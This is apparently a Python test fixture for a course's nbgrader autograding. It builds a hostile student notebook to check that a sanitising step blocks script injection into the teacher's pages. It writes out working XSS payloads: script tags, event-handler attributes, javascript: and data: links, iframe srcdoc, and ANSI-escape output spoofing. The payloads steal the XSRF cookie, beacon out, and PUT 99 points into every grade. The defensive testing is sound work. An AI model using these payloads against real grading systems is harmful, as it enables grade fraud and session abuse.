"""A hostile worksheet 1, autograded through real nbgrader with the course's settings.

Every way a student's notebook can put something active into the teacher's page
is in it: a written answer with ``<script>``, an ``onerror`` image, ``javascript:``
links (plain, entity-encoded, by reference, an autolink), an SVG with ``onload``
and a script, an iframe with ``srcdoc``, a mermaid block that closes its ``<pre>``;
a raw cell of HTML; outputs made with ``IPython.display`` (HTML with a script,
Javascript, an SVG with a script, markdown with a ``javascript:`` link, a widget
view); a forged typed id and an exception class name full of ANSI escapes.

Each active piece, if it ran in a browser, would record itself (``window.top.__pwned``
and an image request to ``beacon``) and try what the attack of issue 33 did: read the
submission's grades from Formgrader's API and ``PUT`` 99 points into each.

``build`` grades it twice: as ``mallory`` with the course's settings, and as
``control`` with the same settings *without* ``SafeForTeacher``, which shows the
attack is real (the tests assert it works on the control).
"""

from __future__ import annotations

import re
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "scripts"))

import course  # noqa: E402  (scripts/course.py)
from tilegames_course.grading import course as grading  # noqa: E402
from tilegames_course.grading.sandbox import available  # noqa: E402

W1 = "w1_tula"
MARK = "PWNED"
"""Every payload carries this word: it must never be found where a browser would run it."""
FORGED = "bob\x1b[2K\r\x1b[1Amallory: 16 of 16 points autograded"
ENAME = "\x1b[8mHidden\x1b[0m\x1b]0;title\x07"
HONEST = ("pairs_answer", "non_matching_pair_answer")
"""The answers mallory gets right: 1 + 1 points, which must stay 2 whatever the page does."""


def payload(vector: str, beacon: str) -> str:
    """JavaScript that records ``vector`` and tries to give the submission 99 points a grade."""
    return (
        f"(function(v){{var w=window.top;w.__pwned=(w.__pwned||[]).concat([v]);"
        f"new Image().src='{beacon}/{MARK}/'+v;"
        "var x=document.cookie.match(/_xsrf=([^;]+)/);"
        "var h={'Content-Type':'application/json'};"
        "if(x){h['X-XSRFToken']=decodeURIComponent(x[1]);}"
        "var b=w.base_url,s=w.submission_id;"
        "if(b&&s){fetch(b+'/api/grades?submission_id='+s,{headers:h}).then(function(r){"
        "return r.json();}).then(function(gs){gs.forEach(function(g){"
        "fetch(b+'/api/grade/'+g.id,{method:'PUT',headers:h,"
        "body:JSON.stringify({manual_score:99,extra_credit:99})});});});}"
        f"}})('{vector}')"
    )


def link(vector: str) -> str:
    """A payload short enough for a markdown link (no spaces): it runs when the teacher clicks."""
    return f"top.__pwned=(top.__pwned||[]).concat('{vector}')"


def written_answer(beacon: str) -> str:
    def js(vector: str) -> str:
        return payload(vector, beacon)

    def attr(vector: str) -> str:
        return js(vector).replace('"', "&quot;")

    encoded = "".join(f"&#x{ord(c):x};" for c in "javascript")
    return "\n\n".join(
        [
            "Tiles only leave, so what is revealable stays revealable.",
            f"<script>{js('md-script')}</script>",
            f'<img src="x" onerror="{attr("md-onerror")}">',
            f"[a link](javascript:{link('md-link')})",
            f"[an encoded link]({encoded}:{link('md-encoded-link')})",
            f"[by reference][evil]\n\n[evil]: javascript:{link('md-reference')}",
            f"<javascript:{link('md-autolink')}>",
            f'<svg onload="{attr("md-svg-onload")}"><script>{js("md-svg-script")}</script></svg>',
            f'<iframe srcdoc="<script>{attr("md-iframe")}</script>"></iframe>',
            f'```mermaid\n</pre><img src=x onerror="{attr("md-mermaid")}">\n```',
            f'<details open ontoggle="{attr("md-ontoggle")}"><summary>more</summary></details>',
            f'<a href="data:text/html,<script>{attr("md-data")}</script>">data</a>',
        ]
    )


def outputs_cell(beacon: str) -> str:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
        f'onload="{payload("svg-output-onload", beacon)}"><rect width="20" height="20"/>'
        f"<script>{payload('svg-output-script', beacon)}</script></svg>"
    )
    return "\n".join(
        [
            "from IPython.display import HTML, SVG, Javascript, Markdown, display",
            f"display(HTML({'<b>bold</b><script>' + payload('html-output', beacon) + '</script>'!r}))",
            f"display(HTML({'<img src=x onerror=' + chr(34) + payload('html-onerror', beacon).replace(chr(34), '&quot;') + chr(34) + '>'!r}))",
            f"display(Javascript({payload('js-output', beacon)!r}))",
            f"display(SVG({svg!r}))",
            f"display(Markdown({'[m](javascript:' + link('markdown-output') + ')'!r}))",
            "display({'text/plain': 'a widget', 'application/vnd.jupyter.widget-view+json':"
            " {'model_id': 'x', 'version_major': 2, 'version_minor': 0}}, raw=True)",
            "print('plain text stays')",
        ]
    )


FORGE = f"""
import tilegames.exercises.handin as handin
handin._typed["id"] = {FORGED!r}
"""

BREAK = f"""
Broken = type({ENAME!r}, (Exception,), {{}})
def submit(*args, **kwargs):
    raise Broken("\\x1b[2Kall fine")
"""


def _solutions(root: Path) -> dict[str, str]:
    source = nbformat.read(root / "source" / W1 / f"{W1}.ipynb", as_version=4)
    return {
        cell.metadata["nbgrader"]["grade_id"]: re.sub(
            r"^\s*### (BEGIN|END) SOLUTION\n", "", cell.source, flags=re.M
        )
        for cell in source.cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }


def notebook(root: Path, beacon: str) -> nbformat.NotebookNode:
    """The students' copy of worksheet 1, filled in by mallory."""
    nb = nbformat.read(root / "release" / W1 / f"{W1}.ipynb", as_version=4)
    solutions = _solutions(root)

    def index(grade_id: str) -> int:
        return next(
            i
            for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
        )

    for grade_id in HONEST:
        nb.cells[index(grade_id)].source = solutions[grade_id]
    nb.cells[index("revealing_never_hurts")].source = written_answer(beacon)
    nb.cells.insert(index("reveal_now_test"), nbformat.v4.new_code_cell(BREAK))
    nb.cells.insert(2, nbformat.v4.new_code_cell(outputs_cell(beacon)))
    nb.cells.insert(2, nbformat.v4.new_code_cell(FORGE))
    raw = nbformat.v4.new_raw_cell(f"<script>{payload('raw-cell', beacon)}</script>")
    nb.cells.insert(1, raw)
    return nb


@dataclass
class Graded:
    root: Path
    results: dict[str, grading.Graded]
    beacon: str

    def autograded(self, student: str) -> Path:
        return self.root / "autograded" / student / W1 / f"{W1}.ipynb"

    def feedback(self, student: str) -> Path:
        return self.root / "feedback" / student / W1 / f"{W1}.html"


def build(root: Path, beacon: str) -> Graded:
    """A course folder at ``root`` with worksheet 1 handed in by mallory and control, autograded."""
    sandbox, _ = available()
    course.course_folder(root)
    course.generate(root, [W1])
    nb = notebook(root, beacon)
    for student in ("mallory", "control"):
        folder = root / "submitted" / student / W1
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{W1}.ipynb")
    results = {
        r.student: r for r in grading.autograde(root, W1, students=["mallory"], sandbox=sandbox)
    }
    # the control: the same settings without the sanitising step
    api = grading.nbgrader_api(root, sandbox=sandbox)
    steps = api.config.Autograde.autograde_preprocessors
    api.config.Autograde.autograde_preprocessors = [
        step for step in steps if step.__name__ != "SafeForTeacher"
    ]
    assert len(api.config.Autograde.autograde_preprocessors) == len(steps) - 1
    grading.run_quietly(lambda: api.autograde(W1, "control", force=True, create=True), "control")
    for student in ("mallory", "control"):
        grading.run_quietly(lambda s=student: api.generate_feedback(W1, s), f"feedback {student}")
    return Graded(root, results, beacon)
